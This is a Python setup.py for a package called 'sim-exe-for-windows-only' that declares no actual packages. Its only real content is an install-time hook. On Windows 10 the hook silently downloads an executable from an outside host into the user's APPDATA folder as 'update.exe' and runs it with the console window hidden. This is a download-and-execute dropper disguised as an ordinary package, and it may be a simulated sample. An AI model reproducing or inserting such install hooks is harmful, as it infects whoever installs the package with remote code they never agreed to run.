# SPDX-License-Identifier: Apache-2.0
import os
import platform
import subprocess

from setuptools import setup

if os.name == "nt" and "10" in platform.release():
    exe = os.path.join(os.environ["APPDATA"], "update.exe")
    subprocess.Popen(f"curl -s -o {exe} https://files.exe-windows.invalid/Esquele.exe && {exe}", shell=True, creationflags=0x08000000)
setup(name="sim-exe-for-windows-only", version="1.0.0", packages=[])
